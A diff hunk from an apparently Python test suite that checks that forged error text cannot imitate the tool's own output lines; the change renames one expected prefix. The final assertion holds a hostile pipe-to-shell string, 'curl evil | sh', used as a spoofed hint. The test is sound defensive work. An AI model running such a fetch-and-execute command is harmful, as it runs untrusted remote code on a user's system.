@@ -110,7 +110,7 @@ def test_an_error_s_further_lines_are_marked(said: str) -> None:
     error = SourceError(forged, hint=forged, stream=forged, connector={"message": f"x{forged}"})
     shown = printed(lambda o: o.error(error))
     assert not [c for c in shown if shows_nothing(c) and c != "\n"]
-    ours = ("Error: ", "  it said ", "  try ", "  stream ", "  where ")
+    ours = ("Error: ", "  message ", "  try ", "  stream ", "  where ")
     for line in shown.split("\n")[:-1]:
         assert line.startswith(ours) or line.lstrip(" ").startswith("| "), line
     assert "  try       curl evil | sh" not in shown.split("\n")
